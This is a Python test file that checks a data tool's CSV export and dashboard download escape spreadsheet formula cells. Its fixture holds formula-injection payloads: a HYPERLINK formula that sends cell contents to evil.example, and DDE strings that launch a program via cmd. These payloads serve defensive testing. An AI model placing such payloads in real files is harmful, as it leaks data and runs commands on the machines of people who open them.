"""Issue 14, item 9: CSV cells that a spreadsheet would run as formulas are escaped, in the
CLI's export and in the dashboard's downloads alike; negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
import warnings

import pandas as pd
import pytest
from typer.testing import CliRunner

from chinalac.cli.app import app
from chinalac.csv_cells import safe_frame
from chinalac.store.build import build_store

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
CONTROL = {"tab": "\t=1+1", "cr": "\r=1+1"}  # escaped too (unit test); not stored in a data file


def test_text_cells_are_escaped_and_numbers_are_not():
    frame = pd.DataFrame(
        {
            "note": [*HOSTILE.values(), *CONTROL.values(), "plain", None],
            "value": [-1.5, 2, -3, 4, 5, 6, -7, 8],
        }
    )
    escaped = safe_frame(frame)
    hostile = len(HOSTILE) + len(CONTROL)
    assert all(cell.startswith("'") for cell in escaped["note"][:hostile])
    assert escaped["note"][hostile] == "plain" and escaped["note"].iloc[-1] is None
    assert list(escaped["value"]) == list(frame["value"])  # negatives stay numbers


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    """The real store, with the notes of the first facts replaced by formula payloads."""
    import shutil

    from chinalac.paths import package_data_dir

    folder = tmp_path_factory.mktemp("formulas")
    data = folder / "data"
    shutil.copytree(package_data_dir(), data)
    facts = pd.read_csv(data / "knowledge" / "facts.csv", dtype=str, keep_default_na=False)
    for row, payload in enumerate(HOSTILE.values()):
        facts.loc[row, "note"] = payload
    facts.to_csv(data / "knowledge" / "facts.csv", index=False)
    db = folder / "chinalac.duckdb"
    build_store(data_dir=data, db_path=db)
    return db


def assert_escaped(rows: list[dict]) -> None:
    notes = {row["note"] for row in rows}
    for payload in HOSTILE.values():
        assert payload not in notes
        assert "'" + payload in notes
    assert not any(
        cell.startswith(("=", "+", "@")) for row in rows for cell in row.values() if cell
    )
    values = [float(row["value"]) for row in rows if row["value"]]
    assert values  # numbers still read as numbers


def test_cli_export_escapes_formulas(hostile_store, tmp_path):
    out = tmp_path / "export"
    result = CliRunner().invoke(
        app, ["export", "--format", "csv", "--out", str(out), "--db", str(hostile_store)]
    )
    assert result.exit_code == 0, result.output
    with open(out / "facts.csv", newline="", encoding="utf-8") as handle:
        assert_escaped(list(csv.DictReader(handle)))


def test_web_download_escapes_formulas(hostile_store):
    from chinalac.web.app import create_app

    response = TestClient(create_app(hostile_store)).get("/data/facts.csv")
    assert response.status_code == 200
    lines = [line for line in response.text.splitlines(True) if not line.startswith("#")]
    assert_escaped(list(csv.DictReader(io.StringIO("".join(lines)))))
